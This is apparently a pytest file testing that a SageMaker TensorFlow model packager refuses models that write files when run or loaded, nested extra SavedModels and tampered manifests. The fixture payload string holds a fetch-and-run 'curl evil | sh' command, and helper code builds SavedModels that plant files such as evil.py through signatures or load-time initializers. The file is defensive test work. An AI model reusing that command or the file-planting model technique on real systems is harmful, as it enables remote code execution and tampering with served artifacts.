"""What the model folder holds once packaged: exactly the manifest's files, with
one SavedModel among them.

SageMaker uploads the whole model folder as the artifact, and the SageMaker TF
Serving container serves every `<name>/<digits>/saved_model.pb` it finds in
it: a file the model writes while the job runs it, or a second SavedModel,
would be served without the manifest covering it.
"""

from __future__ import annotations

import os
import shutil

import pytest
import tensorflow as tf
from packager import model_run, verify
from packager.errors import PackagingError
from packager.manifest import file_digests
from packager.package import package

STAGED = ".staging-*/artifact"  # the glob of the staged artifact in the model folder
WRITTEN = "import os\nos.system('curl evil | sh')\n"


def run(handle, tmp_path, **kwargs):
    return package(handle, str(tmp_path / "model"), "text", 1, log=lambda m: None, **kwargs)


def assert_nothing_left(tmp_path):
    assert os.listdir(tmp_path / "model") == []


def writing_model(folder: str, into: str, name: str, at_load: bool = False) -> str:
    """A SavedModel that writes `name` into the first folder matching the glob `into`
    (with no `*` in it, that folder, found or not): from its serving signature, or
    (`at_load`) from a resource initializer, which `tf.saved_model.load` runs."""

    def write():
        where = tf.io.matching_files(into)[0] if "*" in into else into
        return tf.io.write_file(tf.strings.join([where, "/", name]), WRITTEN)

    class Writer(tf.saved_model.experimental.TrackableResource):
        def _create_resource(self):
            return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name="writer")

        def _initialize(self):
            write()

    class Model(tf.Module):
        def __init__(self):
            super().__init__()
            self.writer = Writer() if at_load else None

        @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])
        def serve(self, x):
            if not at_load:
                write()
            return {"y": x * 2.0}

    model = Model()
    tf.saved_model.save(model, folder, signatures={"serving_default": model.serve})
    return folder


@pytest.mark.parametrize(
    "into, name, at_load, expected",
    [
        # Beside the staging folder: SageMaker would upload it with the artifact.
        ("", "code/inference.py", False, "code/inference.py"),
        # Into the staged SavedModel: a second model for TF Serving to find.
        (f"{STAGED}/text/1", "assets/evil/1/saved_model.pb", False, "text/1/assets/evil/1/saved_model.pb"),
        # Over the user's inference code, a path the manifest lists: only the hash
        # taken before the run tells the bytes apart.
        (f"{STAGED}/code", "inference.py", False, "code/inference.py"),
        # Loading alone (verify-load, no sample) runs the model's initializers.
        ("", "code/inference.py", True, "code/inference.py"),
    ],
)
def test_a_model_that_writes_files_when_run_is_refused(tmp_path, monkeypatch, into, name, at_load, expected):
    # As a job not run as root runs the model: as the job's own user, who may
    # write the model folder; the check after the run refuses what it wrote.
    monkeypatch.setattr(model_run, "_run_as", lambda: None)
    model_dir = tmp_path / "model"
    source = writing_model(str(tmp_path / "source"), str(model_dir / into), name, at_load)
    code = tmp_path / "inference.py"
    code.write_text("def handler(data, context):\n    return data\n")
    run_options = {"verify_load": True} if at_load else {"sample_input": [1.0, 2.0]}
    refused = rf"the manifest would not match what is uploaded: its graph wrote or removed {expected}\."
    with pytest.raises(PackagingError, match=refused):
        run(source, tmp_path, inference_code=str(code), **run_options)
    assert_nothing_left(tmp_path)


@pytest.mark.skipif(os.geteuid() != 0, reason="the model runs as nobody only when the job is root")
@pytest.mark.parametrize(
    "into, at_load",
    [
        ("model", False),  # the model folder, beside the staging folder: uploaded with the artifact
        ("model", True),  # the same from the load alone
        ("site-packages/tensorflow", False),  # code the job runs, were it ever run again
    ],
)
def test_a_model_run_by_a_root_job_cannot_write(tmp_path, open_folder, into, at_load):
    (open_folder / "model").mkdir()
    (open_folder / "site-packages" / "tensorflow").mkdir(parents=True)
    source = writing_model(str(tmp_path / "source"), str(open_folder / into), "evil.py", at_load)
    run_options = {"verify_load": True} if at_load else {"sample_input": [1.0, 2.0]}
    refused = r"/evil.py; Permission denied \(op WriteFile\).* The model ran as user nobody \(65534\)"
    with pytest.raises(PackagingError, match=refused):
        package(source, str(open_folder / "model"), "text", 1, log=lambda m: None, **run_options)
    assert not (open_folder / into / "evil.py").exists()
    assert os.listdir(open_folder / "model") == []


def test_the_check_after_the_run_names_removed_files_new_folders_and_a_planted_manifest(text_model, tmp_path):
    staging = tmp_path / "model" / ".staging-x"
    artifact = staging / "artifact"
    shutil.copytree(text_model, artifact / "text" / "1")
    files = file_digests(str(artifact))
    verify.require_untouched(str(tmp_path / "model"), str(staging), str(artifact), files)
    (artifact / "text" / "1" / "fingerprint.pb").unlink()
    (artifact / "text" / "1" / "assets" / "new" / "empty").mkdir(parents=True)
    (artifact / "manifest.json").write_text("{}")
    refused = r"removed text/1/fingerprint.pb, text/1/assets/new/empty/, manifest.json\."
    with pytest.raises(PackagingError, match=refused):
        verify.require_untouched(str(tmp_path / "model"), str(staging), str(artifact), files)


def test_a_model_folder_holding_anything_at_the_start_is_refused(text_model, tmp_path):
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "notes.txt").write_text("not listed in any manifest")
    with pytest.raises(PackagingError, match=r"already holds \['notes.txt'\]; the model directory must start empty"):
        run(str(text_model), tmp_path)


@pytest.mark.parametrize(
    "nested",
    [
        "assets/evil/7/saved_model.pb",  # a whole SavedModel in a versioned folder
        "assets/x/1/saved_model.pb",  # not a SavedModel at all: TF Serving would not start
        "assets.extra/deep/other/saved_model.pbtxt",  # not in a digits folder, still refused
    ],
)
def test_a_savedmodel_nested_in_the_served_one_is_refused(text_model, tmp_path, nested):
    source = tmp_path / "source"
    shutil.copytree(text_model, source)
    if nested.startswith("assets/evil/"):
        shutil.copytree(text_model, source / os.path.dirname(nested))
    else:
        (source / nested).parent.mkdir(parents=True)
        (source / nested).write_bytes(b"not a protobuf")
    with pytest.raises(PackagingError, match=rf"several SavedModels \(.*{nested}.*\); it should hold one"):
        run(str(source), tmp_path)
    assert_nothing_left(tmp_path)
